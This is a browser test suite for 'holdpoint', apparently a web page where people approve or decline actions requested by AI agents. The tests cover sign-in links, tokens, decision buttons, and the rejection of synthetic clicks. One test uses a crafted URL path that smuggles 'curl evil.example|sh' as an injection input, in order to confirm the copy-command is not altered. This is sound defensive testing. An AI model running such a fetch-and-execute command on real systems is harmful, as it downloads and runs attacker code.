import { claimDispatch, concludeDispatch, loseDispatch } from '@holdpoint/core'
import { describe, expect, test } from 'vitest'
import { CONFIRM, DECLINE, visitPage } from '../browser/page-visit.ts'
import { pressStill, standingStill } from '../browser/standing-still.ts'

const visit = visitPage()

describe('signing in', () => {
  test('without a key the page explains how to get one and shows nothing', async () => {
    const held = await visit.service.hold()
    await visit.page.goto(`${visit.service.origin}/approvals/${held.id}`)
    await visit.page.getByText('holdpoint open').first().waitFor()
    expect(await visit.page.textContent('main')).toContain(`holdpoint open ${held.id}`)
    expect(await visit.text('body')).not.toContain('delete_contact')
  })

  test('a link cannot put words of its own into the command to copy', async () => {
    for (const path of ['/approvals/x;curl%20evil.example|sh', '/approvals/%E0%A4%A', '/approvals/--config']) {
      await visit.page.goto(visit.service.origin + path)
      await visit.page.waitForSelector('.command code')
      expect(await visit.page.textContent('.command code')).toBe('holdpoint open')
    }
  })

  test('a link signs in, leaves the address bar clean and sets no cookie', async () => {
    await visit.service.hold()
    await visit.openSignedIn('/')
    await visit.page.waitForSelector('#waiting')
    expect(visit.page.url()).toBe(`${visit.service.origin}/`)
    expect(await visit.page.textContent('.who')).toContain('local:ana')
    expect(await visit.context.cookies()).toEqual([])
    await visit.page.reload()
    await visit.page.waitForSelector('#waiting')
  })

  test('[L15] a link used a second time is refused, and the first browser is told at once', async () => {
    const { location } = await visit.service.access.mintSignIn('/')
    await visit.page.goto(visit.service.origin + location)
    await visit.page.waitForSelector('.who .name')
    const other = await visit.browser.newContext()
    const second = await other.newPage()
    await second.goto(visit.service.origin + location)
    await second.waitForSelector('.sign-in')
    expect(await second.textContent('.trouble')).toContain('already used')
    expect(await second.evaluate(() => localStorage.getItem('holdpoint.key'))).toBeNull()
    await visit.page.waitForSelector('.banner.stop')
    expect(await visit.page.textContent('.banner.stop')).toContain('used a second time')
    await visit.page.click('.banner.stop >> text=Sign out')
    await visit.page.waitForSelector('.sign-in')
    expect((await visit.service.audit()).at(-1)).toMatchObject({ kind: 'token-revoked', actor: 'local:ana' })
    await other.close()
  })

  test("an approver's token can be pasted; an agent's or a wrong one is refused with the reason", async () => {
    await visit.page.goto(visit.service.origin)
    for (const [token, reason] of [
      ['hp_wrong', 'not valid'],
      [await visit.service.token('agent'), "agent's token opens nothing"],
    ] as const) {
      await visit.page.fill('#token', token)
      await visit.page.click('text=Use this token')
      await visit.page.waitForFunction(
        (text) => document.querySelector('.trouble')?.textContent?.includes(text),
        reason,
      )
      expect(await visit.page.evaluate(() => localStorage.getItem('holdpoint.key'))).toBeNull()
    }
    await visit.page.fill('#token', await visit.service.token('approver', 'ben'))
    await visit.page.click('text=Use this token')
    await visit.page.waitForSelector('.who .name')
    expect(await visit.page.textContent('.who')).toContain('ben')
  })
})

describe('deciding', () => {
  test('a click on Approve approves via the page, and the buttons give way to who, where and when', async () => {
    const held = await visit.service.hold()
    await visit.openSignedIn(`/approvals/${held.id}`)
    await visit.approveEnabled()
    await visit.page.click(CONFIRM)
    await visit.page.waitForSelector('.detail [part~="verdict"]')
    const verdict = await visit.text('.detail [part~="verdict"]')
    expect(verdict).toContain('Approved by local:ana')
    expect(verdict).toContain('via page')
    expect(await visit.page.$(`${CONFIRM}, ${DECLINE}`)).toBeNull()
    const verdicts = (await visit.stored(held)).verdicts
    expect(verdicts).toMatchObject([{ answer: 'approve', by: 'local:ana', via: 'page', assurance: 'identified' }])
  })

  test('one press declines, without a reason and without a second press', async () => {
    const held = await visit.service.hold()
    await visit.openSignedIn(`/approvals/${held.id}`)
    await pressStill(visit.page.locator(DECLINE))
    await visit.page.waitForSelector('.detail [part~="verdict"]')
    expect(await visit.text('.detail [part~="verdict"]')).toContain('Declined by local:ana')
    expect(await visit.page.$(`${CONFIRM}, ${DECLINE}`)).toBeNull()
    expect(await visit.stored(held)).toMatchObject({
      state: 'declined',
      verdicts: [{ answer: 'decline', by: 'local:ana', via: 'page', reason: null }],
    })
  })

  test('a decline from behind More asks for a reason and carries it', async () => {
    const held = await visit.service.hold()
    await visit.openSignedIn(`/approvals/${held.id}`)
    await visit.openPanel('decline')
    expect((await visit.stored(held)).state).toBe('pending')
    await visit.page.fill('.detail textarea[name="reason"]', 'not this one')
    await pressStill(visit.page.locator('.detail [part~="decline"]'))
    await visit.page.waitForSelector('.detail [part~="verdict"]')
    expect(await visit.text('.detail [part~="verdict"]')).toContain('not this one')
    expect(await visit.stored(held)).toMatchObject({ state: 'declined', verdicts: [{ reason: 'not this one' }] })
  })

  test('Approve stays shut until the end of the arguments was on the screen', async () => {
    const held = await visit.service.hold({
      arguments: { text: Array.from({ length: 90 }, (_, line) => `line ${line}`).join('\n') },
    })
    await visit.openSignedIn(`/approvals/${held.id}`)
    await visit.page.waitForSelector(CONFIRM)
    await visit.page.locator(CONFIRM).scrollIntoViewIfNeeded()
    await visit.page.waitForTimeout(700)
    expect(await visit.page.isDisabled(CONFIRM)).toBe(true)
    await visit.page.locator('.detail [part~="json"]').evaluate((box) => box.scrollTo(0, 1e6))
    await visit.page.locator('.detail [part~="json"]').scrollIntoViewIfNeeded()
    await visit.approveEnabled()
    expect(await visit.text('.detail [part~="json"]')).toContain('line 89')
  })

  test('[D13] synthetic clicks and keys decide nothing', async () => {
    const held = await visit.service.hold()
    await visit.openSignedIn(`/approvals/${held.id}`)
    await visit.approveEnabled()
    await visit.page.evaluate(() => {
      const card = document.querySelector('tool-card')
      const confirm = card?.shadowRoot?.querySelector<HTMLButtonElement>('[part~="confirm"]')
      confirm?.click()
      confirm?.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }))
      for (const key of ['a', 'Enter']) window.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }))
      const decline = card?.shadowRoot?.querySelector<HTMLButtonElement>('#row .no')
      decline?.click()
    })
    for (const at of ['beside the yes', 'behind More']) {
      if (at === 'behind More') await visit.openPanel('decline')
      await standingStill(visit.page.locator(DECLINE))
      await visit.page.locator(DECLINE).evaluate((button) => (button as HTMLElement).click())
    }
    await visit.page.waitForTimeout(200)
    expect(await visit.stored(held)).toMatchObject({ state: 'pending', verdicts: [] })
  })

  test('[D13] a press in the first moment decides nothing, even on a button that is awake', async () => {
    const held = await visit.service.hold()
    await visit.page.clock.install()
    await visit.openSignedIn('/')
    await visit.page.waitForSelector('#waiting')
    await visit.page.clock.pauseAt(Date.now() + 60_000)
    await visit.page.goto(`${visit.service.origin}/approvals/${held.id}`)
    // A millisecond at a time: how often this machine looks must not add up to the moment.
    await expect
      .poll(
        async () => {
          await visit.page.clock.runFor(1)
          return await visit.page.locator(`${CONFIRM}:not([disabled])`).count()
        },
        { interval: 20 },
      )
      .toBe(1)
    await visit.page.clock.runFor(100)
    await visit.page.keyboard.press('a')
    await visit.page.click(CONFIRM)
    await visit.page.waitForTimeout(150)
    expect(await visit.stored(held)).toMatchObject({ state: 'pending', verdicts: [] })
    await visit.page.clock.runFor(1000)
    await visit.page.keyboard.press('a')
    await expect.poll(async () => (await visit.stored(held)).state).toBe('approved')
  })

  test('[S2] a decision that came too late shows who was first, where and how long ago', async () => {
    const held = await visit.service.hold()
    await visit.page.route('**/admin/events', (route) => route.abort())
    await visit.openSignedIn(`/approvals/${held.id}`)
    await visit.approveEnabled()
    const token = await visit.service.token('approver', 'ben')
    await visit.service.call('POST', `/admin/approvals/${held.id}/reject`, { token, body: { reason: 'no' } })
    await visit.page.click(CONFIRM)
    await visit.page.waitForSelector('#conflict')
    expect(await visit.text('#conflict')).toMatch(/^Already declined by ben via api, (just now|\d+ s ago)\.$/)
    expect(await visit.text('.detail [part~="verdict"]')).toContain('Declined by ben')
    expect((await visit.stored(held)).state).toBe('declined')
  })

  test('a decision made elsewhere appears without a click, and so does the outcome', async () => {
    const held = await visit.service.hold()
    await visit.openSignedIn(`/approvals/${held.id}`)
    await visit.approveEnabled()
    const token = await visit.service.token('approver', 'ben')
    await visit.service.call('POST', `/admin/approvals/${held.id}/approve`, { token })
    await visit.page.waitForSelector('.detail [part~="verdict"]')
    await claimDispatch(visit.service.store, held.id, 'attempt-1', held.owner)
    const resultText = JSON.stringify({ content: [{ type: 'text', text: 'gone <b>now</b>\u202e' }] })
    await concludeDispatch(visit.service.store, held.id, 'attempt-1', {
      kind: 'result',
      isError: false,
      resultText,
      truncated: false,
    })
    await visit.page.waitForSelector('.detail [part~="content"]')
    expect(await visit.text('.detail [part~="content"]')).toContain('gone <b>now</b>⟦U+202E⟧')
    expect(await visit.text('.timeline')).toContain('Done')
  })

  test('an unknown outcome asks a person what became of it', async () => {
    const held = await visit.service.hold()
    const token = await visit.service.token('approver', 'ben')
    await visit.service.call('POST', `/admin/approvals/${held.id}/approve`, { token })
    await claimDispatch(visit.service.store, held.id, 'attempt-1', held.owner)
    await loseDispatch(visit.service.store, held.id, 'attempt-1', 'The server went away.')
    await visit.openSignedIn(`/approvals/${held.id}`)
    await visit.page.click('text=It did not run')
    expect(await visit.page.textContent('.resolve .trouble')).toContain('how you know')
    await visit.page.fill('#note', 'the contact is still there')
    await visit.page.click('text=It did not run')
    await visit.page.waitForSelector('.detail[data-state=resolved]')
    expect((await visit.stored(held)).outcome).toMatchObject({ kind: 'resolved', executed: false, by: 'local:ana' })
  })

  test('a reader sees everything and no buttons', async () => {
    const held = await visit.service.hold()
    await visit.page.goto(visit.service.origin)
    await visit.page.fill('#token', await visit.service.token('viewer'))
    await visit.page.click('text=Use this token')
    await visit.page.waitForSelector('#waiting')
    await visit.page.goto(`${visit.service.origin}/approvals/${held.id}`)
    await visit.page.waitForSelector('.hold')
    expect(await visit.text('.hold')).toContain('not decide')
    expect(await visit.page.locator('.detail [part~="actions"]').isVisible()).toBe(false)
    expect(await visit.page.locator('button:visible', { hasText: 'Pause' }).count()).toBe(0)
  })
})
